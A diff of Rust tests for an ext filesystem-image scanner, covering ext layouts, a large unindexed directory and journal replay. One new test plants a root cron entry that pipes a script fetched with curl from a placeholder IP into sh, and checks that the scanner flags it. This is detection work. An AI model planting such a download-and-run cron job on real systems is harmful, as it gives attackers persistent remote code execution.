@@ -56,14 +56,13 @@ fn system_tree(name: &str) -> PathBuf {
 
 /// `mke2fs -d SOURCE` into a new image of `size`, with `extra` options.
 fn ext4_image(source: &Path, name: &str, size: &str, extra: &[&str]) -> PathBuf {
+    ext_image(source, name, size, "ext4", extra)
+}
+
+/// `mke2fs -t KIND -d SOURCE` into a new image of `size`.
+fn ext_image(source: &Path, name: &str, size: &str, kind: &str, extra: &[&str]) -> PathBuf {
     let image = fresh(name);
-    sh(Command::new("mke2fs")
-        .args(["-q", "-F", "-t", "ext4"])
-        .args(extra)
-        .arg("-d")
-        .arg(source)
-        .arg(&image)
-        .arg(size));
+    imgscan_fixtures::ext::make(source, &image, size, kind, extra);
     image
 }
 
@@ -762,8 +761,11 @@ fn broken_and_unsupported_disks_are_clear_errors() {
     );
 }
 
+/// Files are opened by the inode numbers their directory gives, never
+/// looked up by name: a directory of thousands of entries without a hash
+/// index is read whole, in time linear in its size.
 #[test]
-fn a_huge_unindexed_directory_costs_bounded_work() {
+fn a_huge_unindexed_directory_is_read_whole() {
     if !disk_tools() {
         return;
     }
@@ -772,17 +774,104 @@ fn a_huge_unindexed_directory_costs_bounded_work() {
     for i in 0..8000 {
         std::fs::write(tree.join(format!("d/f{i:05}")), "x").unwrap();
     }
-    let image = ext4_image(&tree, "huge-dir.img", "32M", &["-N", "9000"]);
+    let image = ext4_image(
+        &tree,
+        "huge-dir.img",
+        "32M",
+        &["-N", "9000", "-O", "^dir_index"],
+    );
     let report = inspect(&image, &[]);
     assert_eq!(
         report["summary"]["totals"]["paths"],
         8001 + 1,
         "every name is listed"
     );
-    let unknowns = report["unknowns"].to_string();
-    assert!(unknowns.contains("lookup budget"), "{unknowns}");
-    let unread = report["summary"]["skipped"]["unreadable"].as_u64().unwrap();
-    assert!(unread > 0 && unread < 8000, "{unread}");
+    assert_eq!(report["unknowns"], serde_json::json!([]));
+    assert_eq!(report["summary"]["skipped"]["unreadable"], 0);
+    assert_eq!(
+        files(&image),
+        files(&tree),
+        "every file reads like its copy"
+    );
+}
+
+/// Every ext layout mke2fs makes reads like the tree it was made from:
+/// ext2 and ext3 block pointers (a file reaching double indirection on
+/// 1 KiB blocks), inline data, meta block groups, 64 KiB blocks (whose
+/// record lengths are encoded), clusters, 128-byte inodes and 32-bit
+/// group descriptors.
+#[test]
+fn every_ext_layout_reads_like_the_directory() {
+    if !disk_tools() {
+        return;
+    }
+    let tree = system_tree("ext-layouts-tree");
+    let mut next = xorshift(7);
+    let big: Vec<u8> = (0..3 << 20).map(|_| next() as u8).collect();
+    std::fs::write(tree.join("srv/indirect.bin"), &big).unwrap();
+    std::fs::write(tree.join("srv/tiny"), "inline\n").unwrap();
+    std::fs::create_dir_all(tree.join("srv/small-dir")).unwrap();
+    std::fs::write(tree.join("srv/small-dir/a"), "a").unwrap();
+    let expected = files(&tree);
+    let layouts: [(&str, &str, &[&str]); 7] = [
+        ("ext2", "16M", &["-b", "1024"]),
+        ("ext3", "16M", &[]),
+        ("ext4", "16M", &["-O", "inline_data"]),
+        ("ext4", "16M", &["-O", "meta_bg,^resize_inode"]),
+        ("ext4", "64M", &["-b", "65536"]),
+        ("ext4", "32M", &["-O", "bigalloc", "-C", "16384"]),
+        ("ext4", "16M", &["-O", "^64bit,^metadata_csum", "-I", "128"]),
+    ];
+    for (i, (kind, size, extra)) in layouts.into_iter().enumerate() {
+        let image = ext_image(&tree, &format!("layout-{i}.img"), size, kind, extra);
+        assert_eq!(files(&image), expected, "{kind} {extra:?}");
+    }
+}
+
+/// An image exported from a running machine keeps committed transactions
+/// in its ext journal: here one that turns a cron job into a downloader.
+/// The scan replays it as `e2fsck` does and reports the job; the tree the
+/// image was made from has no such finding.
+#[test]
+fn a_cron_job_left_in_the_journal_is_found() {
+    if !disk_tools() {
+        return;
+    }
+    use imgscan_fixtures::ext;
+    let planted = "* * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n";
+    let tree = system_tree("journal-tree");
+    std::fs::create_dir_all(tree.join("etc/cron.d")).unwrap();
+    let quiet = format!(
+        "{:<1$}\n",
+        "0 4 * * * root /usr/bin/true",
+        planted.len() - 1
+    );
+    std::fs::write(tree.join("etc/cron.d/job"), quiet).unwrap();
+    let image = ext4_image(&tree, "journal.img", "16M", &["-b", "4096"]);
+    let mut block = planted.as_bytes().to_vec();
+    block.resize(4096, 0);
+    let cron = ext::first_block(&image, "/etc/cron.d/job");
+    let os_release = ext::first_block(&image, "/etc/os-release");
+    ext::journal_unapplied(
+        &image,
+        &[(cron, block)],
+        os_release,
+        &fresh("journal-blocks"),
+    );
+    let replayed = ext::replayed_by_e2fsck(&image, &fresh("journal-replayed.img"));
+    let downloads = |target: &Path| {
+        let (report, _) = scan_json(target);
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|f| f["id"] == "cron.download-and-run")
+            .map(|f| f["path"].as_str().unwrap().to_string())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(downloads(&image), ["/etc/cron.d/job"]);
+    assert_eq!(downloads(&replayed), ["/etc/cron.d/job"]);
+    assert!(downloads(&tree).is_empty());
 }
 
 /// A file larger than what the ext reader threads hold ahead (64 MiB) is
